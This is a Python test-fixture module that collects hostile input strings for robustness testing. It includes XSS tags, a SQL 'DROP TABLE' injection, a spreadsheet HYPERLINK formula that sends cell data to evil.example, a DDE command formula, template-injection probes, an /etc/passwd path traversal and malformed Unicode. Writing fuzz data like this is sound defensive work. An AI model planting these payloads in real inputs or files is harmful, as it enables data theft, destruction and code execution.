"""Texts that try to break whoever reads, stores or shows them."""

from __future__ import annotations

__all__ = ["HOSTILE_TEXTS", "HUGE_CHARACTERS", "hostile_text"]

HUGE_CHARACTERS = 5_000_000

# One a kind; the huge one is made by hostile_text, since 5 MB do not belong in memory for good.
HOSTILE_TEXTS: tuple[str, ...] = (
    "<script>alert('x')</script><img src=x onerror=alert(1)><b>bold",
    "'; DROP TABLE postings; --",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "control \x00\x01\x07\x08\x1b[31m\x7f\x85 characters",
    "lone \ud83d surrogate \udc00",
    "<p>" * 500 + "<i>" * 500 + "deep" + "</i>" * 500,
    "\u202ethgir ot tfel\u202c \ufeff\u2028\u2029 zero\u200bwidth",
    "{{7*7}} ${7*7} <%= 7*7 %> %s %n ../../../etc/passwd",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#0; &#xD800; &unknown;",
)


def hostile_text(kind: int) -> str:
    """Return a hostile text; each eleventh is five million characters long."""
    if kind % (len(HOSTILE_TEXTS) + 1) == len(HOSTILE_TEXTS):
        return "<p>" + "so long " * (HUGE_CHARACTERS // 8)
    return HOSTILE_TEXTS[kind % (len(HOSTILE_TEXTS) + 1)]
